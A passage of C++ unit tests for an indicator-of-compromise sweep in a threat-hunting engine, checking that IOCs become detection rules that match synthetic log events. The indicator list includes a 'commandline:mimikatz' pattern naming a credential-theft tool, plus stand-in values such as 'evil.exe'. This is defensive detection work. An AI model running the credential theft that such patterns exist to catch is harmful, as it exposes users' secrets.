  ParseIocText("1.1.1.1\nevil.exe\n10.0.0.0/8\ncommandline:mimikatz\n", "l.txt", {}, &set);
  ASSERT_TRUE(set.rejected.empty()) << set.rejected.front().ToString();
  auto map = LogSourceMap::Parse(LogSourceMap::DefaultText());
  ASSERT_TRUE(map.has_value());
  std::vector<Rule> rules;
  const IocSweep sweep = IocSweep::Add(std::move(set.indicators), &rules, &*map);
  auto plan = Plan::Compile(rules, *map);
  ASSERT_TRUE(plan.has_value());
  Matcher matcher(**plan);
  const int source = static_cast<int>(map->sources().size()) - 1;  // the IOC source
  const std::vector<std::vector<std::pair<std::string, std::string>>> events = {
      {{"Image", "C:\\a.exe"}, {"DestinationIp", "1.1.1.1"}},
      {{"Image", "C:\\a.exe"}, {"DestinationIp", "1.1.1.2"}},
      {{"QueryName", "www.y.org"}},
      {{"ImageLoaded", "C:\\bX.dll"}},
      {{"ImageLoaded", "C:\\bXY.dll"}},
      {{"src_ip", "10.200.0.1"}, {"Channel", "Security"}, {"EventID", "4624"}},
      {{"CommandLine", "x MimiKatz y"}},
      {{"Message", "1.1.1.1 evil.exe"}},
  };
  std::size_t total = 0;
  for (const auto& fields : events) {
    Event e;
    for (const auto& [k, v] : fields) e.Add(k, v);
    std::vector<int> hits;
    matcher.Match(e, &hits);
    std::vector<int> want;
    for (std::size_t r = 0; r < rules.size(); ++r) {
      if (EvaluateRule(rules[r], e, &*map, source)) want.push_back(static_cast<int>(r));
    }
    EXPECT_EQ(hits, want) << e.ToJson();
    for (int r : hits) EXPECT_NE(sweep.Describe(static_cast<std::size_t>(r), e), "");
    total += hits.size();
  }
  EXPECT_EQ(total, 6u);  // events 1 (the AND rule and the address), 3, 4, 6 and 7
}

TEST(IocSweep, ManyIndicatorsAreGroupedAndTheRightOneIsNamed) {
  std::string iocs;
  for (int i = 0; i < 2000; ++i) {
    iocs += "10." + std::to_string(i / 250) + "." + std::to_string(i % 250) + ".1\n";
  }
  std::size_t rules = 0;
  const auto d = Hunt(iocs,
                      R"({"DestinationIp":"10.7.99.1"})"
                      "\n"
                      R"({"DestinationIp":"10.8.0.1"})"
                      "\n",
                      &rules);
  // One rule for the whole "ip" field group, however many addresses.
  EXPECT_EQ(rules, 1u);
  ASSERT_EQ(d.size(), 1u);
  EXPECT_EQ(d[0]["ioc"]["value"], "10.7.99.1");
  EXPECT_EQ(d[0]["ioc"]["source"], "iocs:" + std::to_string(7 * 250 + 99 + 1));
}

TEST(IocSweep, SigmaRulesStillRouteAsBefore) {
  // Adding IOC sources must not change where ordinary rules run.
  auto map = LogSourceMap::Parse(LogSourceMap::DefaultText());
  ASSERT_TRUE(map.has_value());
  const std::size_t before = map->SourcesForRule({"windows", "process_creation", ""}).size();
  IocSet set;
  ParseIocText("1.2.3.4\n", "iocs", {}, &set);
  std::vector<Rule> rules;
  const IocSweep sweep = IocSweep::Add(std::move(set.indicators), &rules, &*map);
  EXPECT_EQ(map->SourcesForRule({"windows", "process_creation", ""}).size(), before);
  EXPECT_EQ(sweep.rules(), 1u);
  // The IOC sources match every event, also one without a Channel.
  const auto ioc_sources = map->SourcesForRule(rules[0].logsource);
  ASSERT_FALSE(ioc_sources.empty());
  for (int s : ioc_sources) {
    EXPECT_TRUE(map->EventMatches(s, "", ""));
    EXPECT_TRUE(map->EventMatches(s, "Security", "4624"));
  }
  EXPECT_EQ(sweep.Describe(999, Event{}), "");
}

}  // namespace
}  // namespace ucsc::hunt
